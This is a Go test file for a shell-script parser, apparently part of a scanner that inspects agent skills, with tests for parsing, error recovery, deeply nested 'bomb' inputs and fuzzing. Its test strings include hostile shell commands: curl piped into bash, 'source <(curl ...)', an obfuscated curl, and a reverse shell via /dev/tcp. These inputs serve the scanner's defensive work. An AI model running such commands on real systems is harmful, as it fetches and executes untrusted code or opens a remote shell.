package shell

import (
	"fmt"
	"strings"
	"testing"

	"github.com/agent-base/agent-base/skill/scan/internal/code"
)

// show writes a program in one line, for comparison.
func show(body []code.Statement) string {
	var out []string
	for _, s := range body {
		t := string(s.Op)
		if s.Name != "" {
			t += " " + s.Name
		}
		if s.Value != nil {
			t += " " + showValue(s.Value)
		}
		if s.Body != nil {
			t += "{" + show(s.Body) + "}"
		}
		out = append(out, t)
	}
	return strings.Join(out, "; ")
}

func showValue(v *code.Value) string {
	var args []string
	if v.Input != nil {
		args = append(args, "<"+showValue(v.Input))
	}
	for i := range v.Args {
		args = append(args, showValue(&v.Args[i]))
	}
	list := "(" + strings.Join(args, " ") + ")"
	switch v.Form {
	case code.Text:
		return fmt.Sprintf("%q", v.Text)
	case code.Name, code.Number:
		return v.Text
	case code.Call:
		return showValue(v.Func) + list
	case code.Func:
		return "{" + show(v.Body) + "}"
	}
	return string(v.Form) + list
}

func TestParse(t *testing.T) {
	for _, test := range []struct{ source, want string }{
		{`curl -s "https://$HOST/x" | bash`, `set |1 curl("-s" join("https://" HOST "/x")); do bash(<|1)`},
		{`c\url 'a'"b"$'\x63\144\n' x\ y`, `do curl("abcd\n" "x y")`},
		{"cat <<EOF > out\na $X\nEOF", `do >(<cat(<join("a " X "\n")) "out")`},
		{"python3 - <<'EOF'\nprint(1)\nEOF", `do python3(<"print(1)\n" "-")`},
		{`A=1 B=$(date +%s); export C="$A"; D+=x`, `set A "1"; set B date("+%s"); set C A; set D join(D "x")`},
		{`f() { echo "$1"; }; f a`, `def f{return echo(1)}; do f("a")`},
		{`if a; then b; else c; fi; for i in x y; do d "$i"; done`, `do a(); do b(); do c(); set i other("x" "y"); do d(i)`},
		{`while read -r l; do e "$l"; done < f`, `do {return read(<<("f") "-r" "l"); return e(<<("f") l)}(`},
		{`bash -i >& /dev/tcp/192.0.2.1/80 0>&1 2>/dev/null`, `do >(<>(<bash("-i") "/dev/tcp/192.0.2.1/80") "/dev/null")`},
		{`x="${Y:-https://a.example}"; z=${x:0:4}${x/a/b}`, `set x other(Y "https://a.example"); set z join(${:}(x 0 4) ${/}(x "a" "b"))`},
		{`source <(curl -s u)`, `do source(curl("-s" "u"))`},
		{`[[ -n $TOKEN ]] && (( n > $M ))`, `do other(TOKEN); do other(M)`},
		{"good a\nif ) then\ngood b", `do good("a"); do good("b")`},
		{`a=(p q); r "${a[@]}" ${a[1]}`, `set a list("p" "q"); do r(a index(a 1))`},
		{"echo `hostname`", `do echo(hostname())`},
	} {
		p := Parse(test.source, 1)
		if got := show(p.Body); !strings.HasPrefix(got, test.want) {
			t.Errorf("%s\n got %s\nwant %s", test.source, got, test.want)
		}
	}
}

// Places are lines of the file, and what is no shell is said.
func TestParsePlaces(t *testing.T) {
	p := Parse("a\nb )\nc", 10)
	if p.Partly != "line 11 is no shell" || !p.Broken || len(p.Body) != 3 || p.Body[0].Line != 10 || p.Body[1].Line != 11 || p.Body[2].Line != 12 {
		t.Errorf("got %+v", p)
	}
}

// A fault takes no command away: its line is read without what is wrong there. So many that it takes too long are more than broken.
func TestParseBroken(t *testing.T) {
	for source, want := range map[string]string{
		"curl u | bash (\nx":          `set |1 curl("u"); do bash(<|1); do x()`,
		"curl \"u | bash":             `set |1 curl("u"); do bash(<|1)`,
		"a; b ) c":                    `do a(); do b("c")`,
		"if a; then\n  curl u | sh\n": `set |1 curl("u"); do sh(<|1)`,
	} {
		p := Parse(source, 1)
		if got := show(p.Body); !strings.Contains(got, want) || !p.Broken {
			t.Errorf("%q: got %s, want %s", source, got, want)
		}
	}
	if p := Parse(strings.Repeat(")\n", maxFaults+5)+"curl u", 1); p.Broken || p.Partly == "" {
		t.Errorf("got %+v", p.Partly)
	}
}

// What would overflow the stack of a parser is not read.
func TestParseBombs(t *testing.T) {
	for _, unit := range []string{"(", "$(", "{ ", "a|", "a&&", "! ", "if ", "if a; then ", "`", "while ", "$((1+(", "[[ ! ", "((-", "$((1?", "((a=", "case a in b) ", "${a:-", "\"$(", "<(", "time ", "a\n|", "$((- ", "a[", "f() ", "((1,", "coproc ", "((2**"} {
		for _, tail := range []string{"", " x"} {
			source := unit + strings.Repeat(unit, 600_000/len(unit)) + tail
			p := Parse(source, 1)
			if p.Partly == "" {
				t.Errorf("%q is read whole", unit)
			}
		}
	}
}

func FuzzParse(f *testing.F) {
	for _, s := range []string{"a | b", "x=$(y <<E\nz\nE\n)", "f(){ g; }", "a >f 2>&1", "${x:0:1}", "$'\\x41\\101'", "case a in b) c;; esac", "for ((;;)); do a; done", "[[ a =~ $b ]]", "let x=1", "00&0\x81"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, source string) {
		for _, s := range Parse(source, 1).Body {
			if s.Line < 0 || s.Op == "" {
				t.Errorf("got %+v", s)
			}
		}
	})
}
